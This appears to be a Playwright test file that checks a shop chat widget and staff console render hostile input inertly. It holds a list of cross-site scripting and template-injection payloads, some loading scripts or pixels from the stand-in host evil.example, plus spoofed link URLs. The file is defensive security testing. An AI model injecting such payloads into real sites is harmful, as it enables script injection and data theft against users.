// Markup and scripts are words like others, whoever writes them and whoever reads them (D06).

import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import {
  ask,
  assertInert,
  newVisitor,
  openBrowser,
  openChat,
  openConversation,
  openHouse,
  signIn,
  write,
} from "../harness.mjs";

/** @import { Browser } from "playwright-core" */
/** @import { House } from "../harness.mjs" */

/** @type {House} */
let house;
/** @type {Browser} */
let browser;
before(async () => {
  house = await openHouse();
  browser = await openBrowser();
});
after(async () => {
  await browser?.close();
  await house?.remove();
});

const PAYLOADS = [
  "<script>window.__struck = 1</script>",
  "<img src=x onerror=\"window.__struck = 1\">",
  "<svg/onload=window.__struck=1>",
  "<iframe srcdoc='<script>parent.__struck=1</script>'></iframe>",
  "\"><script src=https://evil.example/x.js></script>",
  "<a href=\"javascript:window.__struck=1\">press me</a>",
  "[press me](javascript:window.__struck=1)",
  "![picture](https://evil.example/pixel.png)",
  "<style>*{background:url(https://evil.example/c)}</style>",
  "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
  "</textarea></body><script>window.__struck=1</script>",
  "{{constructor.constructor('window.__struck=1')()}} {% raw %} ${window.__struck=1}",
  "<math><mi//xlink:href=\"data:x,<script>window.__struck=1</script>\">",
  "&lt;script&gt;window.__struck=1&lt;/script&gt;",
  "\u202e<b>turned</b>\u2066\u0000",
];
const NAME = "<img src=x onerror=window.__struck=1>";

test("payloads as message, staff name, reply and note are inert everywhere", async () => {
  const admin = await newVisitor(browser);
  const agent = await newVisitor(browser);
  const shopper = await newVisitor(browser);
  /** @type {string[]} */
  const strangers = [];
  let dialogs = 0;
  for (const visitor of [admin, agent, shopper]) {
    visitor.context.on("request", (request) => {
      if (![house.origin, house.shopOrigin].includes(new URL(request.url()).origin)) strangers.push(request.url());
    });
    visitor.context.on("dialog", (dialog) => {
      dialogs += 1;
      void dialog.dismiss();
    });
  }

  await signIn(admin.page, await house.signInLink());
  await admin.page.goto(`${house.origin}/console/staff`);
  await admin.page.fill("#invite-name", NAME);
  await admin.page.getByRole("button", { name: "Create sign-in link" }).click();
  const link = await admin.page.locator("#invited-link").inputValue();
  await admin.page.locator("#people th", { hasText: NAME }).waitFor();
  await assertInert(admin.page, "staff page");

  const chat = await openChat(shopper.page, house);
  await ask(chat, PAYLOADS[0] ?? "");
  await chat.locator("#person").click();
  await chat.getByText("Waiting for a person").waitFor();

  await signIn(agent.page, link);
  await openConversation(agent.page, house, chat);
  await agent.page.getByRole("button", { name: "Take over" }).click();
  await agent.page.locator("#state", { hasText: "With you" }).waitFor();
  for (const payload of PAYLOADS) {
    const marker = `${payload} number ${PAYLOADS.indexOf(payload)}.`;
    const end = `number ${PAYLOADS.indexOf(payload)}.`;
    await write(chat, marker);
    await agent.page.locator(".turn.shopper", { hasText: end }).waitFor();
    await agent.page.fill("#writing", marker);
    await agent.page.press("#writing", "Enter");
    await chat.locator(".turn.human", { hasText: end }).waitFor();
  }
  await agent.page.getByRole("button", { name: "Internal note" }).click();
  for (const payload of PAYLOADS) {
    const end = `note ${PAYLOADS.indexOf(payload)}.`;
    await agent.page.fill("#writing", `${payload} ${end}`);
    await agent.page.getByRole("button", { name: "Save note" }).click();
    await agent.page.locator("#notes .note", { hasText: end }).waitFor();
  }
  assert.equal(await chat.locator(".turn.human .author").first().textContent(), NAME, "the name is shown as it was written");
  const literal = "<img src=x onerror=\"window.__struck = 1\">";
  assert.ok((await chat.locator(".turn.shopper", { hasText: "number 1." }).innerText()).includes(literal));
  assert.ok((await agent.page.locator(".turn.shopper", { hasText: "number 1." }).innerText()).includes(literal));
  await assertInert(chat, "chat");
  await assertInert(agent.page, "conversation");
  await agent.page.reload();
  await agent.page.waitForSelector("#conversation:not([aria-busy])");
  await assertInert(agent.page, "conversation, loaded again");
  await agent.page.goto(`${house.origin}/console/inbox`);
  await agent.page.locator("#queue a.row").first().waitFor();
  await assertInert(agent.page, "inbox");

  assert.deepEqual(strangers, []);
  assert.equal(dialogs, 0);
  for (const visitor of [admin, agent, shopper]) visitor.assertCalm();
});

test("blocks draw text, and links only where they say that they lead", async () => {
  const shopper = await newVisitor(browser);
  const chat = await openChat(shopper.page, house);
  const drawn = await chat.evaluate(async (payloads) => {
    const [blocks, texts] = ["/widget/v1/blocks.js", "/widget/v1/texts.js"];
    const { drawBlocks } = await import(blocks);
    const { blockLabels, textsFor } = await import(texts);
    const shop = "/widget/v1/shop.js";
    const { openShop } = await import(shop);
    const say = await textsFor("en");
    const none = () => undefined;
    const chatCards = openShop({ place: document.createElement("div"), say, locale: "en", session: none, turnWith: none, counted: none }).cards;
    const labels = blockLabels(say);
    const log = document.getElementById("log");
    const links = [
      ["https://shop.example/a", "shop.example", true],
      ["https://evil.example/a", "shop.example", false],
      ["https://shop.example@evil.example/", "shop.example", false],
      ["https://user@shop.example/", "shop.example", false],
      ["http://shop.example/", "shop.example", false],
      ["javascript:window.__struck=1", "", false],
      ["data:text/html,<script>1</script>", "", false],
      ["//shop.example/", "shop.example", false],
      ["nonsense", "nonsense", false],
    ];
    const anchors = links.map(([url, host, wanted]) => {
      const [shown] = drawBlocks([{ type: "link", id: "1", label: "here", host, url }], { labels });
      return [url, shown.querySelector("a") !== null, wanted];
    });
    for (const payload of payloads) {
      const spans = [{ text: payload, bold: true, emphasis: true }];
      const made = drawBlocks(
        [
          { type: "text", text: payload },
          { type: "text", text: payload, content: [{ kind: "paragraph", spans }, { kind: "list", ordered: true, items: [spans] }] },
          { type: "source", kind: payload, id: payload, title: payload },
          { type: "choices", choices: [{ label: payload, text: payload }] },
          { type: "notice", kind: payload },
          { type: "notice", kind: "constructor" },
          { type: "handover", state: payload },
          { type: payload },
        ],
        { labels, choose() {} },
      );
      const effect = [{ text: payload, amount: 1 }];
      const sheet = {
        id: payload, title: payload, category: payload, currency: payload, price: 1, from: false, variants: 2, in_stock: true,
        options: [{ name: payload, values: [payload] }],
        variant: { id: payload, label: payload, price: 1, in_stock: true },
      };
      const cards = [
        { type: "product", product: sheet },
        { type: "comparison", products: [sheet, sheet] },
        { type: "cart", cart: { lines: [{ id: payload, title: payload, quantity: 1, total: 1, in_stock: false }], currency: "EUR", subtotal: 1, discount: payload, total: 1 } },
        { type: "proposal", id: payload, tool: payload, title: payload, effect, total: 1, currency: payload, level: "session", expires_at: "2999-01-01T00:00:00Z" },
        { type: "outcome", proposal: payload, tool: payload, title: payload, effect, currency: payload, order: payload },
        { type: "form", form: "address", order: payload },
      ];
      made.push(...drawBlocks(cards, { labels, cards: chatCards }));
      log?.append(...made);
    }
    return anchors;
  }, PAYLOADS);
  for (const [url, isLink, wanted] of drawn) assert.equal(isLink, wanted, String(url));
  await assertInert(chat, "chat");
  shopper.assertCalm();
});
